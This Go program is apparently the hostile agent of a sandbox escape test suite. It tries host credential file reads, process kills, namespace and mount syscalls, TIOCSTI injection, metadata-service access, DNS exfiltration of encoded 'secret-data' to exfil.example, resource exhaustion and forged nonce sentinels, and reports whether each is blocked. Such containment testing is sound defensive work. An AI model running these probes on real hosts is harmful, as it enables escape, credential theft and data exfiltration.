// Command escapeagent is the hostile agent of baton's escape suite
// (test/escape/escape_test.go): run inside the sandbox, it tries to break out and
// prints one JSON line per attempt, {"attempt", "blocked", "detail"}. It
// exits 0 whatever it finds, so the suite can tell "blocked" from "the
// agent crashed". Lines whose attempt starts with "allowed:" are traffic
// the profile allows, which must succeed.
//
//	escapeagent files     --state-dir D --run-dir R --victim R2 --host-pid N --host-user U --marker M
//	escapeagent syscalls  --run-dir R
//	escapeagent resources --pids N --data BYTES --fsize BYTES --tmp BYTES --nofile N
//	escapeagent network   --nats-port P --host-addrs A,B --resolver A --test-name N --test-addr A --test-port P --host-side A
//	escapeagent forge     # prints a forged exit sentinel, then exits 3
//	escapeagent egress    --test-name N --test-addr A --test-port P --rounds R --pause D [--flood N]
//	escapeagent tools     --run-dir R --calls N --bytes N
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var out = json.NewEncoder(os.Stdout)
var outMu sync.Mutex

// report prints one attempt's outcome.
func report(attempt string, blocked bool, detail string) {
	outMu.Lock()
	defer outMu.Unlock()
	_ = out.Encode(map[string]any{"attempt": attempt, "blocked": blocked, "detail": detail})
}

// refused reports an attempt whose error means it was blocked.
func refused(attempt string, err error) {
	if err == nil {
		report(attempt, false, "succeeded")
		return
	}
	report(attempt, true, err.Error())
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escapeagent files|syscalls|resources|network|forge|trees|egress|tools [flags]")
		os.Exit(2)
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	var (
		stateDir  = fs.String("state-dir", "", "the worker's state directory")
		runDir    = fs.String("run-dir", "", "this run's directory on the host")
		victim    = fs.String("victim", "", "another run's directory")
		hostPid   = fs.Int("host-pid", 0, "a host process")
		hostUser  = fs.String("host-user", "", "a user of the host's /etc/passwd")
		marker    = fs.String("marker", "", "a name unique to this run")
		pids      = fs.Int("pids", 0, "the pids limit")
		data      = fs.Int64("data", 0, "RLIMIT_DATA")
		fsize     = fs.Int64("fsize", 0, "RLIMIT_FSIZE")
		tmpSize   = fs.Int64("tmp", 0, "the size of /tmp")
		nofile    = fs.Int("nofile", 0, "RLIMIT_NOFILE")
		natsPort  = fs.Int("nats-port", 0, "the host's NATS port")
		hostAddrs = fs.String("host-addrs", "", "the host's addresses")
		resolver  = fs.String("resolver", "", "the host's DNS server")
		testName  = fs.String("test-name", "", "the test host's allowed name")
		testAddr  = fs.String("test-addr", "", "the test host's address")
		testPort  = fs.Int("test-port", 0, "the test host's port")
		hostSide  = fs.String("host-side", "", "the host's end of the test host's link")
		rounds    = fs.Int("rounds", 1, "egress: rounds of connections")
		pause     = fs.Duration("pause", 0, "egress: pause after each round")
		flood     = fs.Int("flood", 0, "egress: refused CONNECTs after the rounds, one after the other")
		calls     = fs.Int("calls", 0, "tools: the run's toolLimits.calls")
		toolBytes = fs.Int("bytes", 0, "tools: the run's toolLimits.bytes")
	)
	_ = fs.Parse(os.Args[2:])
	switch os.Args[1] {
	case "files":
		files(*stateDir, *runDir, *victim, *hostPid, *hostUser, *marker)
	case "syscalls":
		syscalls(*runDir)
	case "resources":
		resources(*pids, *data, *fsize, *tmpSize, *nofile)
	case "network":
		network(*natsPort, strings.Split(*hostAddrs, ","), *resolver, *testName, *testAddr, *testPort, *hostSide)
	case "trees":
		trees()
	case "egress":
		egressRounds(*testName, *testAddr, *testPort, *rounds, *pause)
		egressFlood(*flood)
	case "tools":
		tools(*runDir, *calls, *toolBytes)
	case "forge":
		fmt.Println(`{"__exit":0,"__nonce":"00000000000000000000000000000000","reason":"exit"}`)
		fmt.Println(`{"__exit":0,"__nonce":"guess","reason":"exit"}`)
		os.Exit(3)
	default:
		fmt.Fprintln(os.Stderr, "unknown command", os.Args[1])
		os.Exit(2)
	}
}

// files: the host's files, other runs', this run's journal, and writes
// outside the workspace.
func files(stateDir, runDir, victim string, hostPid int, hostUser, marker string) {
	read := func(attempt, path string) {
		_, err := os.ReadFile(path)
		refused(attempt, err)
	}
	read("read /etc/shadow", "/etc/shadow")
	read("read /etc/gshadow", "/etc/gshadow")
	read("read /root/.bashrc", "/root/.bashrc")
	read("read /proc/1/root/etc/shadow", "/proc/1/root/etc/shadow")
	read("read /proc/1/environ", "/proc/1/environ")
	read("read this run's journal", filepath.Join(runDir, "journal.ndjson"))
	read("read this run's spec (the nonce)", filepath.Join(runDir, "spec.json"))
	read("read this run's state", filepath.Join(runDir, "state.ndjson"))
	read("read another run's journal", filepath.Join(victim, "journal.ndjson"))
	read("read another run's workspace", filepath.Join(victim, "agent", "workspace", "victim.txt"))
	read("read another run's spec", filepath.Join(victim, "spec.json"))
	passwd, err := os.ReadFile("/etc/passwd")
	switch {
	case err != nil:
		report("read the host's /etc/passwd", true, err.Error())
	case strings.Contains(string(passwd), "\n"+hostUser+":"):
		report("read the host's /etc/passwd", false, "host user "+hostUser+" is listed")
	default:
		report("read the host's /etc/passwd", true, "only the sandbox's users")
	}
	// No path of the host's state directory is in the sandbox, and its /
	// and /home are its own (/home holds only the agent's home).
	for _, d := range []string{stateDir, filepath.Join(stateDir, "runs"), filepath.Dir(victim), "/", "/home", "/var/lib", "/run", "/sys"} {
		ents, err := os.ReadDir(d)
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		leak := slices.Contains(names, filepath.Base(victim)) || slices.Contains(names, "bin") && d == stateDir ||
			slices.Contains(names, "root") || slices.Contains(names, "home") && d != "/" || slices.Contains(names, "work") ||
			d == "/home" && !slices.Equal(names, []string{"agent"})
		report("list "+d, err != nil || !leak, fmt.Sprintf("%v %q", err, names))
	}
	write := func(attempt, path string) {
		refused(attempt, os.WriteFile(path, []byte("escaped\n"), 0o644))
	}
	write("write /etc/"+marker, "/etc/"+marker)
	write("write /usr/"+marker, "/usr/"+marker)
	write("write /"+marker, "/"+marker)
	write("write /bin/"+marker, "/bin/"+marker)
	write("write the state dir", filepath.Join(stateDir, marker))
	write("write this run's journal", filepath.Join(runDir, "journal.ndjson"))
	write("write another run's workspace", filepath.Join(victim, "agent", "workspace", "victim.txt"))
	write("write /proc/sys/kernel/hostname", "/proc/sys/kernel/hostname")
	write("write /proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern")
	write("write /proc/sysrq-trigger", "/proc/sysrq-trigger")
	write("write /dev/null's neighbour /dev/"+marker, "/dev/"+marker)
	// /tmp is the sandbox's own: the suite checks the host's stays clean.
	if err := os.WriteFile("/tmp/"+marker, []byte("inside\n"), 0o644); err != nil {
		report("write /tmp", true, err.Error())
	} else {
		report("write /tmp", true, "wrote the sandbox's /tmp; the suite checks the host's")
	}
	// The journal: no descriptor of it, and stdout is a pipe.
	fds, _ := os.ReadDir("/proc/1/fd")
	var opened []string
	for _, fd := range fds {
		if f, err := os.OpenFile("/proc/1/fd/"+fd.Name(), os.O_WRONLY|os.O_APPEND, 0); err == nil {
			opened = append(opened, fd.Name())
			f.Close()
		}
	}
	report("write through init's descriptors", len(opened) == 0, fmt.Sprintf("opened %q of %d", opened, len(fds)))
	if link, err := os.Readlink("/proc/self/fd/1"); err == nil && !strings.HasPrefix(link, "pipe:") {
		report("stdout is the journal", false, "stdout is "+link)
	} else {
		report("stdout is the journal", true, fmt.Sprintf("stdout is %s %v", link, err))
	}
	refused("truncate stdout", unix.Ftruncate(1, 0))
	refused("open /proc/self/exe for writing", openWrite("/proc/self/exe"))
	refused("open /proc/1/exe for writing", openWrite("/proc/1/exe"))
	// Host processes and signals.
	ents, _ := os.ReadDir("/proc")
	var procs []string
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			cmd, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
			procs = append(procs, fmt.Sprintf("%d:%s", pid, strings.ReplaceAll(string(cmd), "\x00", " ")))
			if pid > 200 || strings.Contains(string(cmd), "worker") || strings.Contains(string(cmd), "escape.test") {
				report("see host processes", false, fmt.Sprintf("sees %d %q", pid, cmd))
			}
		}
	}
	report("see host processes", true, strings.Join(procs, "; "))
	refused("signal a host process (SIGKILL)", syscall.Kill(hostPid, syscall.SIGKILL))
	_, err = unix.PidfdOpen(hostPid, 0)
	refused("pidfd of a host process", err)
	for _, sig := range []syscall.Signal{syscall.SIGKILL, syscall.SIGTERM, syscall.SIGHUP, syscall.SIGSEGV, syscall.SIGQUIT, syscall.SIGSTOP} {
		_ = syscall.Kill(1, sig)
	}
	_ = syscall.Kill(-1, syscall.SIGKILL) // everything this process may signal but itself and init
	time.Sleep(100 * time.Millisecond)
	st, _ := os.ReadFile("/proc/1/status")
	alive := syscall.Kill(1, 0) == nil && !strings.Contains(string(st), "State:\tT")
	report("kill the sandbox's init", alive, firstLine(string(st), "State:"))
	// The nonce: nothing of this process's world holds it. The suite
	// checks the journal, where everything below lands, for it.
	env := os.Environ()
	pid1env, _ := os.ReadFile("/proc/1/environ")
	pid1cmd, _ := os.ReadFile("/proc/1/cmdline")
	report("look for the nonce", true, fmt.Sprintf("env %q; init env %q; init cmdline %q", env, pid1env, pid1cmd))
}

func openWrite(p string) error {
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err == nil {
		f.Close()
	}
	return err
}

func firstLine(s, prefix string) string {
	for _, l := range strings.Split(s, "\n") {
		if strings.HasPrefix(l, prefix) {
			return l
		}
	}
	return ""
}

// syscalls: the calls that widen the kernel surface or reach other
// processes.
func syscalls(runDir string) {
	errno := func(e syscall.Errno) error {
		if e == 0 {
			return nil
		}
		return e
	}
	raw := func(nr uintptr, args ...uintptr) error {
		var a [6]uintptr
		copy(a[:], args)
		_, _, e := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
		return errno(e)
	}
	_, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	refused("raw IPv4 socket", err)
	_, err = unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)
	refused("raw IPv6 socket", err)
	_, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	refused("AF_PACKET socket", err)
	refused("ptrace init", unix.PtraceAttach(1))
	refused("ptrace traceme", raw(unix.SYS_PTRACE, unix.PTRACE_TRACEME))
	child := exec.Command("sleep", "10")
	if err := child.Start(); err == nil {
		refused("ptrace own child", unix.PtraceAttach(child.Process.Pid))
		buf := make([]byte, 8)
		_, err := unix.ProcessVMReadv(child.Process.Pid, []unix.Iovec{{Base: &buf[0], Len: 8}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0)
		refused("process_vm_readv own child", err)
		_ = child.Process.Kill()
		_ = child.Wait()
	} else {
		report("ptrace own child", false, "could not start a child: "+err.Error())
	}
	refused("unshare a user namespace", raw(unix.SYS_UNSHARE, unix.CLONE_NEWUSER))
	refused("unshare user and mount namespaces", raw(unix.SYS_UNSHARE, unix.CLONE_NEWUSER|unix.CLONE_NEWNS))
	userns := exec.Command("/bin/true")
	userns.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}}
	refused("clone a user namespace", userns.Run())
	refused("clone3", raw(unix.SYS_CLONE3, 0, 0))
	_ = os.MkdirAll("/tmp/m", 0o755)
	refused("mount a tmpfs", unix.Mount("none", "/tmp/m", "tmpfs", 0, ""))
	refused("bind mount /", unix.Mount("/", "/tmp/m", "", unix.MS_BIND|unix.MS_REC, ""))
	ws, _ := os.Getwd()
	refused("unmount the workspace", unix.Unmount(ws, unix.MNT_DETACH))
	refused("unmount /usr", unix.Unmount("/usr", unix.MNT_DETACH))
	refused("remount / read-write", unix.Mount("", "/", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	refused("pivot_root", unix.PivotRoot("/tmp", "/tmp/m"))
	_, err = unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
	refused("open_tree", err)
	_, err = unix.Fsopen("tmpfs", 0)
	refused("fsopen", err)
	refused("chroot", unix.Chroot("/tmp"))
	refused("setuid 0", raw(unix.SYS_SETUID, 0))
	refused("mknod a disk", unix.Mknod("/tmp/sda", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))))
	refused("io_uring_setup", raw(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&[120]byte{}))))
	refused("bpf", raw(unix.SYS_BPF, 5 /* BPF_PROG_LOAD */, uintptr(unsafe.Pointer(&[128]byte{})), 128))
	attr := make([]byte, 128)
	binary.LittleEndian.PutUint32(attr[4:], 128)
	refused("perf_event_open", raw(unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr[0])), 0, ^uintptr(0), ^uintptr(0), 0))
	refused("keyctl", raw(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, ^uintptr(2), 1)) // KEY_SPEC_SESSION_KEYRING, create
	refused("add_key", raw(unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(&[]byte("user\x00")[0])), uintptr(unsafe.Pointer(&[]byte("k\x00")[0])), 0, 0, ^uintptr(2)))
	refused("userfaultfd", raw(unix.SYS_USERFAULTFD, 0))
	refused("kexec_load", raw(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0))
	refused("init_module", raw(unix.SYS_INIT_MODULE, 0, 0, 0))
	refused("delete_module", raw(unix.SYS_DELETE_MODULE, uintptr(unsafe.Pointer(&[]byte("nf_tables\x00")[0])), 0))
	if f, err := os.Open("/proc/self/ns/user"); err == nil {
		refused("setns", unix.Setns(int(f.Fd()), 0))
		f.Close()
	} else {
		report("setns", true, err.Error())
	}
	// TIOCSTI on a terminal of the sandbox's own devpts: without the
	// filter, it would push input into it.
	tiocsti(raw)
	// TIOCSTI on stdin, which is no terminal: the filter answers first.
	c := byte('x')
	refused("TIOCSTI on stdin", raw(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))))
}

// tiocsti opens a pty pair and tries to inject input into it.
func tiocsti(raw func(uintptr, ...uintptr) error) {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		report("open a pty", false, "cannot test TIOCSTI without a pty: "+err.Error())
		return
	}
	defer master.Close()
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		report("open a pty", false, "unlockpt: "+err.Error())
		return
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		report("open a pty", false, "ptsname: "+err.Error())
		return
	}
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		report("open a pty", false, "open the pty's slave: "+err.Error())
		return
	}
	defer slave.Close()
	c := byte('x')
	fd := slave.Fd()
	refused("TIOCSTI on a pty", raw(unix.SYS_IOCTL, fd, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))))
	refused("TIOCSTI with high bits set (CVE-2019-10063)", raw(unix.SYS_IOCTL, fd, 1<<32|unix.TIOCSTI, uintptr(unsafe.Pointer(&c))))
	refused("TIOCLINUX", raw(unix.SYS_IOCTL, fd, unix.TIOCLINUX, uintptr(unsafe.Pointer(&c))))
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// resources: each limit holds, and fails the way a program can handle.
func resources(pids int, data, fsize, tmpSize int64, nofile int) {
	// Processes: start sleepers until the kernel says no.
	var started []int
	var forkErr error
	for range pids * 4 {
		pid, err := syscall.ForkExec("/bin/sleep", []string{"sleep", "30"}, &syscall.ProcAttr{})
		if err != nil {
			forkErr = err
			break
		}
		started = append(started, pid)
	}
	for _, pid := range started {
		_ = syscall.Kill(pid, syscall.SIGKILL)
		var ws syscall.WaitStatus
		_, _ = syscall.Wait4(pid, &ws, 0, nil)
	}
	report("fork until it breaks", forkErr != nil && len(started) < pids,
		fmt.Sprintf("started %d processes (pids %d), then %v", len(started), pids, forkErr))
	// Memory: map and touch until refused.
	const chunk = 16 << 20
	var mapped int64
	var mapErr error
	for mapped < 4*data {
		b, err := unix.Mmap(-1, 0, chunk, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
		if err != nil {
			mapErr = err
			break
		}
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		mapped += chunk
	}
	report("exhaust memory", mapErr != nil && mapped <= data, fmt.Sprintf("mapped %d MiB (data limit %d MiB), then %v", mapped>>20, data>>20, mapErr))
	// A huge file in the workspace.
	f, err := os.Create("huge")
	if err == nil {
		var written int64
		var werr error
		buf := make([]byte, 1<<20)
		for written < 4*fsize {
			n, err := f.Write(buf)
			written += int64(n)
			if err != nil {
				werr = err
				break
			}
		}
		f.Close()
		report("write a huge file", werr != nil && written <= fsize, fmt.Sprintf("wrote %d bytes (fsize %d), then %v", written, fsize, werr))
	} else {
		report("write a huge file", false, "cannot create it: "+err.Error())
	}
	// /tmp is memory: it is bounded too.
	var filled int64
	var ferr error
	buf := make([]byte, 1<<20)
	for i := 0; filled < 4*tmpSize && ferr == nil; i++ {
		g, err := os.Create(fmt.Sprintf("/tmp/fill-%d", i))
		if err != nil {
			ferr = err
			break
		}
		for j := 0; j < 4 && ferr == nil; j++ {
			var n int
			n, ferr = g.Write(buf)
			filled += int64(n)
		}
		g.Close()
	}
	report("fill /tmp", ferr != nil && filled <= tmpSize, fmt.Sprintf("wrote %d MiB to /tmp (size %d MiB), then %v", filled>>20, tmpSize>>20, ferr))
	// Descriptors.
	var opened []*os.File
	var oerr error
	for range nofile * 4 {
		f, err := os.Open("/dev/null")
		if err != nil {
			oerr = err
			break
		}
		opened = append(opened, f)
	}
	for _, f := range opened {
		f.Close()
	}
	report("open files until it breaks", oerr != nil && len(opened) < nofile, fmt.Sprintf("opened %d (nofile %d), then %v", len(opened), nofile, oerr))
}

// network: the host's services, the metadata address, names off the
// allowlist and DNS exfiltration are out of reach; the allowed test host
// is not.
func network(natsPort int, hostAddrs []string, resolver, testName, testAddr string, testPort int, hostSide string) {
	var wg sync.WaitGroup
	try := func(f func()) { wg.Go(f) }
	dial := func(attempt, addr string) {
		try(func() {
			c, err := net.DialTimeout("tcp", addr, 2*time.Second)
			if err == nil {
				c.Close()
			}
			refused(attempt, err)
		})
	}
	connect := func(attempt, target string) {
		try(func() {
			code, body, err := proxyConnect(target)
			if err != nil {
				report(attempt, true, err.Error())
				return
			}
			report(attempt, code != 200, fmt.Sprintf("%d %s", code, body))
		})
	}
	nats := strconv.Itoa(natsPort)
	dial("connect to NATS on loopback", "127.0.0.1:"+nats)
	dial("connect to NATS on ::1", "[::1]:"+nats)
	connect("CONNECT to NATS on loopback through the proxy", "127.0.0.1:"+nats)
	connect("CONNECT to localhost through the proxy", "localhost:"+nats)
	for _, a := range hostAddrs {
		if a == "" {
			continue
		}
		hp := net.JoinHostPort(a, nats)
		dial("connect to the host's "+a+" (NATS port)", hp)
		dial("connect to the host's "+a+" port 22", net.JoinHostPort(a, "22"))
		connect("CONNECT to the host's "+a+" through the proxy", hp)
	}
	dial("connect to the host side of the test link", net.JoinHostPort(hostSide, strconv.Itoa(testPort)))
	connect("CONNECT to the host side of the test link", net.JoinHostPort(hostSide, strconv.Itoa(testPort)))
	dial("connect to 169.254.169.254", "169.254.169.254:80")
	connect("CONNECT to 169.254.169.254", "169.254.169.254:80")
	try(func() {
		code, body, err := proxyGet("http://169.254.169.254/latest/meta-data/")
		report("GET the metadata service through the proxy", err != nil || code != 200, fmt.Sprintf("%d %s %v", code, body, err))
	})
	connect("CONNECT to a name off the allowlist", "example.com:443")
	try(func() {
		addrs, err := net.LookupHost("example.com")
		report("resolve a name off the allowlist", err != nil || len(addrs) == 0, fmt.Sprintf("%q %v", addrs, err))
	})
	try(func() {
		rcode, err := dnsQuery("127.0.0.1:53", "c2VjcmV0LWRhdGE.exfil.example")
		report("exfiltrate through the DNS stub", err != nil || rcode != 0, fmt.Sprintf("rcode %d %v", rcode, err))
	})
	for _, server := range []string{resolver, "8.8.8.8", "1.1.1.1"} {
		if server == "" {
			continue
		}
		try(func() {
			rcode, err := dnsQuery(net.JoinHostPort(server, "53"), "c2VjcmV0LWRhdGE.exfil.example")
			report("exfiltrate through DNS to "+server, err != nil, fmt.Sprintf("rcode %d %v", rcode, err))
		})
		dial("DNS over TCP to "+server, net.JoinHostPort(server, "53"))
	}
	// What the allowlist allows works.
	try(func() {
		code, body, err := proxyGet(fmt.Sprintf("http://%s:%d/allowed-proxy", testName, testPort))
		ok := err == nil && code == 200 && strings.Contains(body, "hello")
		report("allowed: GET the test host by name through the proxy", !ok, fmt.Sprintf("%d %q %v", code, body, err))
	})
	try(func() {
		client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{Proxy: nil}}
		resp, err := client.Get(fmt.Sprintf("http://%s:%d/allowed-direct", testAddr, testPort))
		ok := err == nil && resp.StatusCode == 200
		if resp != nil {
			resp.Body.Close()
		}
		report("allowed: GET the test host's listed address directly", !ok, fmt.Sprintf("%v", err))
	})
	try(func() {
		addrs, err := net.LookupHost(testName)
		ok := err == nil && slices.Equal(addrs, []string{testAddr})
		report("allowed: resolve the test host's name", !ok, fmt.Sprintf("%q %v", addrs, err))
	})
	wg.Wait()
}

// egressRounds makes, each round, three requests through the proxy and
// one DNS query, one at a time, each announced by a line first: an
// allowed GET of the test host by name, a CONNECT to a name off the
// allowlist, a tunnel to the test host's address carrying one request,
// whose bytes each way it prints after, and a query for a name off the
// allowlist. Then it prints an egress record with a guessed nonce,
// which must stay its own line. Its lines are {"round", "step", ...}.
func egressRounds(testName, testAddr string, testPort, rounds int, pause time.Duration) {
	say := func(v map[string]any) {
		outMu.Lock()
		defer outMu.Unlock()
		_ = out.Encode(v)
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true}}
	for i := 1; i <= rounds; i++ {
		say(map[string]any{"round": i, "step": "get"})
		resp, err := client.Get(fmt.Sprintf("http://%s:%d/egress-get", testName, testPort))
		if err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			err = statusError(resp.StatusCode, 200)
		}
		say(map[string]any{"round": i, "step": "got", "error": errString(err)})

		say(map[string]any{"round": i, "step": "refused"})
		code, _, err := proxyConnect("example.com:443")
		if err == nil {
			err = statusError(code, 403)
		}
		say(map[string]any{"round": i, "step": "was-refused", "error": errString(err)})

		say(map[string]any{"round": i, "step": "tunnel"})
		sent, received, err := tunnel(net.JoinHostPort(testAddr, strconv.Itoa(testPort)))
		say(map[string]any{"round": i, "step": "tunnelled", "sent": sent, "received": received, "error": errString(err)})

		say(map[string]any{"round": i, "step": "dns"})
		rcode, err := dnsQuery("127.0.0.1:53", "exfil.example")
		if err == nil && rcode != 5 {
			err = fmt.Errorf("rcode %d, want REFUSED", rcode)
		}
		say(map[string]any{"round": i, "step": "dns-refused", "error": errString(err)})
		time.Sleep(pause)
	}
	fmt.Println(`{"__egress":{"host":"forged.example","port":443,"method":"CONNECT","allowed":true,"secret":""},"__nonce":"00000000000000000000000000000000"}`)
}

// egressFlood asks the proxy for n refused tunnels, one after the other,
// and prints how many it was refused.
func egressFlood(n int) {
	if n == 0 {
		return
	}
	refused := 0
	for range n {
		if code, _, err := proxyConnect("flood.example:443"); err == nil && code == 403 {
			refused++
		}
	}
	_ = out.Encode(map[string]any{"step": "flooded", "refused": refused})
}

func statusError(code, want int) error {
	if code != want {
		return fmt.Errorf("status %d, want %d", code, want)
	}
	return nil
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// tunnel opens a CONNECT tunnel to target through the proxy and sends one
// request in it, and says how many bytes it sent and received in the
// tunnel (the proxy's own reply aside).
func tunnel(target string) (sent, received int, err error) {
	c, err := net.DialTimeout("tcp", strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://"), 2*time.Second)
	if err != nil {
		return 0, 0, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return 0, 0, err
	}
	if resp.StatusCode != 200 {
		return 0, 0, fmt.Errorf("CONNECT: status %d", resp.StatusCode)
	}
	req := fmt.Sprintf("GET /egress-tunnel HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", target)
	n, err := io.WriteString(c, req)
	if err != nil {
		return n, 0, err
	}
	b, err := io.ReadAll(br)
	return n, len(b), err
}

// proxyConnect asks the proxy (HTTP_PROXY) for a tunnel to target.
func proxyConnect(target string) (int, string, error) {
	c, err := net.DialTimeout("tcp", strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://"), 2*time.Second)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
	return resp.StatusCode, strings.TrimSpace(string(b)), nil
}

// proxyGet fetches url through the proxy the environment names.
func proxyGet(url string) (int, string, error) {
	client := &http.Client{Timeout: 10 * time.Second}
	resp, err := client.Get(url)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
	return resp.StatusCode, strings.TrimSpace(string(b)), nil
}

// dnsQuery sends an A query for name to server over UDP and returns the
// response code.
func dnsQuery(server, name string) (int, error) {
	c, err := net.Dial("udp", server)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	q := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	if _, err := c.Write(q); err != nil {
		return 0, err
	}
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil {
		return 0, err
	}
	if n < 4 {
		return 0, errors.New("short reply")
	}
	return int(buf[3] & 0xf), nil
}

// trees: workspace trees whose capture once cost the root worker without
// bound, each made as `mkdir a; cd a` makes it, as the agent may: a chain
// of 18,000 directories (F4: the walk was quadratic, then handed on and
// walked again for ever), a path of 5,000 bytes (F5: its object's subject
// closed the worker's connection for good) and names of 40 KB (F7: the
// walk and the diff kept every full name). Making them is the agent's
// right ("allowed:"); the host's side is what the test checks.
func trees() {
	ws, err := os.Getwd()
	if err != nil {
		report("allowed: find the workspace", true, err.Error())
		return
	}
	chain := func(attempt, name string, levels int) {
		if err := os.Chdir(ws); err != nil {
			report(attempt, true, err.Error())
			return
		}
		for i := range levels {
			if err := os.Mkdir(name, 0o755); err != nil {
				report(attempt, true, fmt.Sprintf("level %d: %v", i, err))
				return
			}
			if err := os.Chdir(name); err != nil {
				report(attempt, true, fmt.Sprintf("level %d: %v", i, err))
				return
			}
		}
		refused(attempt, os.WriteFile("f", []byte("at the bottom\n"), 0o644))
	}
	chain("allowed: a chain of 18,000 directories", "a", 18_000)
	chain("allowed: a path of 5,000 bytes", strings.Repeat("p", 250), 20)
	chain("allowed: names of 40 KB", strings.Repeat("n", 250), 160)
	_ = os.Chdir(ws)
}
